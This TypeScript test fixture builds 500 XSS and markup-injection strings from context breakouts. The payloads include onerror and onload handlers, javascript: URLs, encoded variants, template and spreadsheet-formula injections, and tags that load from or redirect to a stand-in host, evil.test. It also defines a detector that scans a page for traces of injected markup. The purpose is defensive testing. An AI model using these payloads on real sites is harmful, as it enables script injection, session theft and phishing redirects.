import { randomInt } from 'node:crypto';

/** Ends of what a text may stand in: an attribute, a comment, a script, a text area, a template. */
const breakouts = ['', '">', "'>", '-->', ']]>', '</script>', '</title></textarea>', '{{', '`}', '&#62;'];

const script = 'window.pwned=1';

/** Elements and attributes that would run a script, load something or change the page; each bears `data-payload`. */
const elements = [
  `<img data-payload src=x onerror=${script}>`,
  `<img data-payload src="x" onerror="${script}"/>`,
  `<svg data-payload onload=${script}>`,
  `<svg><script data-payload>${script}</script></svg>`,
  `<script data-payload>${script}</script>`,
  `<SCRIPT data-payload SRC=//evil.test/x.js></SCRIPT>`,
  `<iframe data-payload srcdoc="<script>${script}</script>"></iframe>`,
  `<iframe data-payload src=javascript:${script}>`,
  `<a data-payload href="javascript:${script}">open</a>`,
  `<a data-payload href="&#106;avascript:${script}">open</a>`,
  `<body data-payload onload=${script}>`,
  `<input data-payload autofocus onfocus=${script}>`,
  `<select data-payload autofocus onfocus=${script}>`,
  `<details data-payload open ontoggle=${script}>`,
  `<video data-payload><source onerror=${script}></video>`,
  `<object data-payload data=//evil.test/x></object>`,
  `<embed data-payload src=//evil.test/x>`,
  `<form data-payload action=//evil.test><button>Send</button></form>`,
  `<base data-payload href=//evil.test/>`,
  `<meta data-payload http-equiv=refresh content="0;url=//evil.test">`,
  `<link data-payload rel=stylesheet href=//evil.test/x.css>`,
  `<style data-payload>*{display:none}</style>`,
  `<div data-payload style="position:fixed;inset:0">over</div>`,
  `<math data-payload><mtext><img src=x onerror=${script}></mtext></math>`,
  `<noscript data-payload><p title="</noscript><img src=x onerror=${script}>">`,
  `<template data-payload><img src=x onerror=${script}></template>`,
  `<marquee data-payload onstart=${script}>`,
  `<b data-payload>bold</b>`,
  `<plaintext data-payload>`,
  `<textarea data-payload>`,
  `<!--<img data-payload src=x onerror=${script}>`,
  `<![CDATA[<img data-payload src=x onerror=${script}>]]>`,
  `<?xml version="1.0"?><x data-payload/>`,
  ` data-payload onmouseover=${script} x=`,
  `" data-payload onmouseover="${script}" x="`,
  `' data-payload onmouseover='${script}' x='`,
  `&lt;img data-payload src=x onerror=${script}&gt;`,
  `&#60;img data-payload src=x onerror=${script}&#62;`,
  `%3Cimg data-payload src=x onerror=${script}%3E`,
  `\\u003Cimg data-payload src=x onerror=${script}\\u003E`,
  `\u{FF1C}img data-payload src=x onerror=${script}\u{FF1E}`,
  `\${${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `javascript:${script}`,
  `data:text/html,<script data-payload>${script}</script>`,
  `=HYPERLINK("//evil.test","open")`,
  `=cmd '/C calc'!A0`,
  `@SUM(1+1)*cmd`,
  `[open](javascript:${script})`,
  `**bold** _italic_ # title`,
];

/** 500 texts that must stay texts. */
export const markupPayloads: readonly string[] = breakouts.flatMap((breakout) =>
  elements.map((element) => `${breakout}${element}`),
);

const [step, start] = [10, randomInt(10)];

/** A tenth of them, each element once, behind another breakout each time; all of them in `npm run test:long`. */
export const sampledPayloads: readonly string[] =
  process.env.PROPERTY_RUNS === 'full'
    ? markupPayloads
    : markupPayloads.filter((_, index) => (index + Math.floor(index / elements.length)) % step === start);

/** Traces that a payload would leave behind where it is more than a text. */
export function findMarkup(root: Document): string[] {
  const made = [
    ...root.querySelectorAll('[data-payload], iframe, object, embed, base, marquee, plaintext, body script'),
  ];
  const armed = [...root.querySelectorAll('*')].filter(({ attributes }) =>
    [...attributes].some(
      ({ name, value }) => name.startsWith('on') || (/^\s*(?:javascript|data:text)/iu.test(value) && isAddress(name)),
    ),
  );
  return [...made, ...armed].map(({ outerHTML }) => outerHTML.slice(0, 200));
}

function isAddress(name: string): boolean {
  return ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'].includes(name);
}
